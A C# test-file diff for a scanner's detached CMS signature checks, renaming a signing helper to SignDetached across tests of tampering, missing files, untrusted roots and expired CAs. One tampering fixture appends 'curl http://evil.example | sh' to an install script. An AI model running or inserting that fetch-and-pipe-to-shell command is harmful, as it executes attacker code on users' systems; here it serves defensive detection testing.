@@ -14,14 +14,6 @@ public class DetachedSignatureTests
 {
     private static readonly byte[] Payload = Encoding.UTF8.GetBytes("#!/bin/sh\necho installing acme 5.0\n");
 
-    private static byte[] Sign(byte[] content, Issued signer, params Issued[] chain)
-    {
-        var gen = new CmsSignedDataGenerator();
-        gen.AddSigner(signer.Keys.Private, signer.Certificate, CmsSignedGenerator.DigestSha256);
-        gen.AddCertificates(CollectionUtilities.CreateStore(new[] { signer.Certificate }.Concat(chain.Select(static c => c.Certificate))));
-        return gen.Generate(new CmsProcessableByteArray(content), false).GetEncoded();
-    }
-
     private static (Issued Root, Issued Ica, Issued Signer) Pki()
     {
         var root = Root("CN=Vendor Root");
@@ -45,7 +37,7 @@ public class DetachedSignatureTests
         var (root, ica, signer) = Pki();
         string trust = dir.File("roots.pem", Pem(root.Certificate));
 
-        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", Sign(Payload, signer, ica)));
+        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", SignDetached(Payload, signer, ica)));
 
         report.Findings.Should().BeEmpty();
         report.Inventory.Certificates.Select(static c => c.Subject).Should().Contain("CN=Vendor Release Signer");
@@ -59,7 +51,7 @@ public class DetachedSignatureTests
         string trust = dir.File("roots.pem", Pem(root.Certificate));
         byte[] tampered = [.. Payload, .. "curl http://evil.example | sh\n"u8.ToArray()];
 
-        var report = await Scan(dir, [trust], ("bin/install.sh", tampered), ("bin/install.sh.p7s", Sign(Payload, signer, ica)));
+        var report = await Scan(dir, [trust], ("bin/install.sh", tampered), ("bin/install.sh.p7s", SignDetached(Payload, signer, ica)));
 
         var finding = report.Findings.Should().ContainSingle(f => f.RuleId == "PF616").Subject;
         finding.Severity.Should().Be(Severity.Critical);
@@ -74,7 +66,7 @@ public class DetachedSignatureTests
         var (_, ica, signer) = Pki();
         string trust = dir.File("other.pem", Pem(Root("CN=Someone Else").Certificate));
 
-        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", Sign(Payload, signer, ica)));
+        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", SignDetached(Payload, signer, ica)));
 
         report.Findings.Should().NotContain(f => f.RuleId == "PF616");
         report.Findings.Should().ContainSingle(f => f.RuleId == "PF606" || f.RuleId == "PF605")
@@ -88,7 +80,7 @@ public class DetachedSignatureTests
         var (root, ica, signer) = Pki();
         string trust = dir.File("roots.pem", Pem(root.Certificate));
 
-        var report = await Scan(dir, [trust], ("bin/install.sh.p7s", Sign(Payload, signer, ica)));
+        var report = await Scan(dir, [trust], ("bin/install.sh.p7s", SignDetached(Payload, signer, ica)));
 
         report.Findings.Should().ContainSingle(f => f.RuleId == "PF617").Which.Properties["signedFile"].Should().Be("bin/install.sh");
     }
@@ -105,7 +97,7 @@ public class DetachedSignatureTests
             notAfter: new DateTime(2026, 6, 1, 0, 0, 0, DateTimeKind.Utc));
         string trust = dir.File("roots.pem", Pem(root.Certificate));
 
-        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", Sign(Payload, signer, ica)),
+        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", SignDetached(Payload, signer, ica)),
             ("etc/ca.pem", Pem(expiredCa.Certificate)));
 
         report.Findings.Where(f => f.RuleId == "PF602").Select(f => (f.Location.Path, f.Severity)).Should().BeEquivalentTo(new[]
